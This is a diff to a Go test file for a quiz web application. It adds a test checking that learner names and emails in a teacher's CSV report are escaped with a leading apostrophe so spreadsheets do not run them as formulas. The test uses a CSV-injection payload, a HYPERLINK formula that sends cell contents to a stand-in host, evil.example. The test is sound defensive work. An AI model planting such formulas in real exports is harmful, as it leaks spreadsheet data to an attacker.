@@ -1,6 +1,7 @@
 package handlers
 
 import (
+	"encoding/csv"
 	"fmt"
 	"net/http"
 	"net/url"
@@ -405,5 +406,41 @@ func TestAnswerKeyKeptFromLearners(t *testing.T) {
 		if inExam[c.QuestionID] || c.Question.Origin != models.OriginGenerated {
 			t.Errorf("a flashcard of question %d (%s, in the exam: %v)", c.QuestionID, c.Question.Origin, inExam[c.QuestionID])
 		}
+	}
+}
+
+// TestCSVDownloadsNeutraliseFormulas: a learner whose name is a formula
+// is written in the quiz report's CSV with a ' before it, so that a
+// spreadsheet shows it as text instead of running it.
+func TestCSVDownloadsNeutraliseFormulas(t *testing.T) {
+	ta, teacher, _, z := quizSetup(t, models.QuizSettings{Name: "Q", FeedbackMode: models.FeedbackEach}, 2)
+	evil := ta.client()
+	name := `=HYPERLINK("http://evil.example/?"&A1,"click")`
+	resp, body := evil.postForm("/signup", url.Values{"_csrf": {evil.csrf("/signup")}, "email": {"+evil@example.com"}, "name": {name}, "password": {testPassword}})
+	wantStatus(t, resp, http.StatusSeeOther, body)
+	resp, body = startQuiz(t, evil, z)
+	wantStatus(t, resp, http.StatusSeeOther, body)
+	resp, body = teacher.get(fmt.Sprintf("/quizzes/%d/report.csv", z.ID))
+	wantStatus(t, resp, http.StatusOK, body)
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	found := false
+	for _, r := range rows[1:] {
+		if r[1] == "'"+name {
+			found = true
+			if r[2] != "'+evil@example.com" {
+				t.Errorf("the email cell is %q, want it behind a '", r[2])
+			}
+		}
+		for i, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("row %v: cell %d begins with %q", r, i, cell[0])
+			}
+		}
+	}
+	if !found {
+		t.Errorf("no row has the name behind a ':\n%s", body)
 	}
 }
